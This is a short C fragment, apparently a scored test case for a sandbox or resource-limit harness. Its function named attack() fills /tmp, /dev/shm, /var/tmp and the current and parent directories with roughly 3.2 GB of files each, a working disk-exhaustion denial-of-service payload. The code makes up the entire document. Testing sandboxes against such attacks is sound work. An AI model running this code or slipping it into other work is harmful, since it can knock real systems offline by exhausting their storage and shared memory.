// tries: to fill every folder that it can write to
// score: 100
#include <fcntl.h>

static void fill(const char *folder)
{
    static char block[1 << 20];
    char path[64];

    for (int i = 0; i < 100; i++) {
        snprintf(path, sizeof path, "%s/file-%d", folder, i);
        int file = open(path, O_WRONLY | O_CREAT, 0666);
        for (int j = 0; file >= 0 && j < 32; j++)
            if (write(file, block, sizeof block) <= 0)
                break;
        close(file);
    }
}

static void attack(void)
{
    fill("/tmp");
    fill("/dev/shm");
    fill("/var/tmp");
    fill(".");
    fill("..");
}
